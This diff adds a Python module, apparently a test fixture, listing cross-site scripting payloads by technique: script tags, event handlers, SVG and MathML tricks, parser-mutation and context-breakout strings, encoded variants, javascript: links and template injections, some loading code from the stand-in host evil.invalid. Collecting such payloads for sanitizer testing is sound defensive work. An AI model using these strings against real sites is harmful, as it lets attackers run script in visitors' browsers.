@@ -1,0 +1,127 @@
+"""Texts with which somebody would run a script in a reader's browser, by the way in which each tries it.
+
+Each calls `alert`, which a test puts something of its own in place of, or asks the host evil.invalid, which is nowhere.
+"""
+
+from __future__ import annotations
+
+EVIL = "//evil.invalid"
+
+COLLECTION: dict[str, tuple[str, ...]] = {
+    "tags": (
+        "<script>alert(1)</script>",
+        "<ScRiPt >alert(1)</sCrIpT\t>",
+        f"<script src={EVIL}/a.js></script>",
+        "<script/x>alert(1)</script>",
+        "<script type=module>alert(1)</script>",
+        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+        "<iframe src=javascript:parent.alert(1)></iframe>",
+        f"<object data={EVIL}/a.html></object>",
+        f"<embed src={EVIL}/a.html>",
+        f"<base href={EVIL}/>",
+        f"<link rel=stylesheet href={EVIL}/a.css>",
+        f"<form action={EVIL}/><button autofocus>x</button></form>",
+        f"<style>@import '{EVIL}/a.css';</style>",
+    ),
+    "handlers": (
+        "<img src=x: onerror=alert(1)>",
+        "<img/src='x:'/onerror=alert(1)>",
+        "<IMG SRC=x: OnErRoR\n=\nalert(1)>",
+        "<body onload=alert(1)>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<input autofocus onfocus=alert(1)>",
+        "<video><source onerror=alert(1) src=x:></video>",
+        "<audio src=x: onerror=alert(1)></audio>",
+        "<b style='animation:x 1s' onanimationstart=alert(1)>x</b>",
+        "<b onpointerenter=alert(1)>x</b>",
+        f"<img src={EVIL}/a.png>",
+        f"<img srcset='{EVIL}/a.png 1x'>",
+        f"<b style='background:url({EVIL}/a.png)'>x</b>",
+    ),
+    "svg": (
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><script href=data:text/javascript,alert(1) /></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+        "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+        "<svg><foreignObject><img src=x: onerror=alert(1)></foreignObject></svg>",
+        f"<svg><image href={EVIL}/a.png /></svg>",
+        f"<svg><use href={EVIL}/a.svg#x /></svg>",
+        "<svg><style><img src=x: onerror=alert(1)></style></svg>",
+    ),
+    "mathml": (
+        "<math href=javascript:alert(1)>x</math>",
+        "<math><mtext></p><img src=x: onerror=alert(1)></mtext></math>",
+        "<math><annotation-xml encoding=text/html><img src=x: onerror=alert(1)></annotation-xml></math>",
+    ),
+    "mutation": (
+        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<noscript><p title='</noscript><img src=x: onerror=alert(1)>'></noscript>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=alert(1)&gt;'>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert(1)>",
+        "<svg></p><style><a id='</style><img src=x: onerror=alert(1)>'>",
+        "<template><script>alert(1)</script></template><img src=x: onerror=alert(1)>",
+        "<table><td background=x:><img src=x: onerror=alert(1)>",
+        "<xmp><p title='</xmp><img src=x: onerror=alert(1)>'></xmp>",
+    ),
+    "breakouts": (
+        "</code></pre></div></article><script>alert(1)</script>",
+        "<!--/galley-content--><script>alert(1)</script><!--",
+        "--><script>alert(1)</script><!--",
+        "--!><img src=x: onerror=alert(1)>",
+        "]]><script>alert(1)</script>",
+        "</title></style></textarea><script>alert(1)</script>",
+        '"><script>alert(1)</script>',
+        "'><img src=x: onerror=alert(1)>",
+        '" autofocus onfocus=alert(1) x="',
+        "' onpointerenter=alert(1) x='",
+        "` onpointerenter=alert(1) x=`",
+        "\n\n<script>alert(1)</script>\n\n",
+        "```\n<script>alert(1)</script>\n```",
+        "<plaintext><script>alert(1)</script>",
+    ),
+    "entities": (
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "&#x3c;img src=x: onerror=alert(1)&#x3e;",
+        "&amp;lt;script&amp;gt;alert(1)",
+        "<a href='&#106;avascript:alert(1)'>x</a>",
+        "<a href='java&Tab;script&colon;alert(1)'>x</a>",
+    ),
+    "unicode": (
+        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+        "<\u017fcript>alert(1)</\u017fcript>",
+        "<img src=x:\u00a0onerror=alert(1)>",
+        "\u202e<script>alert(1)</script>",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+        "<scr\x00ipt>alert(1)</scr\x00ipt>",
+        "\x1b[31m<script>alert(1)</script>\x1b[0m",
+        "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
+        "\ufeff<script>alert(1)</script>",
+        "\u2028<script>alert(1)</script>\u2029",
+    ),
+    "addresses": (
+        f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href=' \x01java\nscript:alert(1)'>x</a>",
+        "<a href=vbscript:alert(1)>x</a>",
+        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+        "[x](javascript:alert(1))",
+        "<javascript:alert(1)>",
+        f"![x]({EVIL}/a.png)",
+        "[x]: javascript:alert(1)\n[x]",
+    ),
+    "templates": (
+        "{{ constructor.constructor('alert(1)')() }}",
+        "{% raw %}<script>alert(1)</script>{% endraw %}",
+        "${alert(1)}",
+        "<%= alert(1) %>",
+        "[[${alert(1)}]]",
+        "*[x]: <script>alert(1)</script>\nx",
+        "x{: onpointerenter=alert(1) }",
+    ),
+}
+TEXTS = [text for texts in COLLECTION.values() for text in texts]
+# Each is harmful in a page that shows it as it is; of the others, some need a reader's click or an old browser.
+HARMFUL = [text for kind in ("tags", "handlers", "svg") for text in COLLECTION[kind]]
